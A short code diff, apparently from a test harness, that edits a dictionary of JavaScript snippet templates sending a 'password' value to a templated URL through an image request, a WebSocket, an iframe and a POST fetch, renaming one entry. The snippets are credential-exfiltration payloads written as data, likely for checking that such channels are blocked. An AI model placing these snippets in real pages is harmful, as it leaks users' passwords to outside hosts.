@@ -187,9 +187,7 @@ SENT = {
     "image": "new Image().src = '{url}/?' + password",
     "websocket": "new WebSocket('{url}/'.replace('http', 'ws') + password)",
     "frame": "document.body.innerHTML += '<iframe src={url}/>'",
-    "redirected fetch": (
-        "await fetch('/on', {{method: 'POST', body: password}})"
-    ),
+    "redirection": "await fetch('/on', {{method: 'POST', body: password}})",
 }
 
 
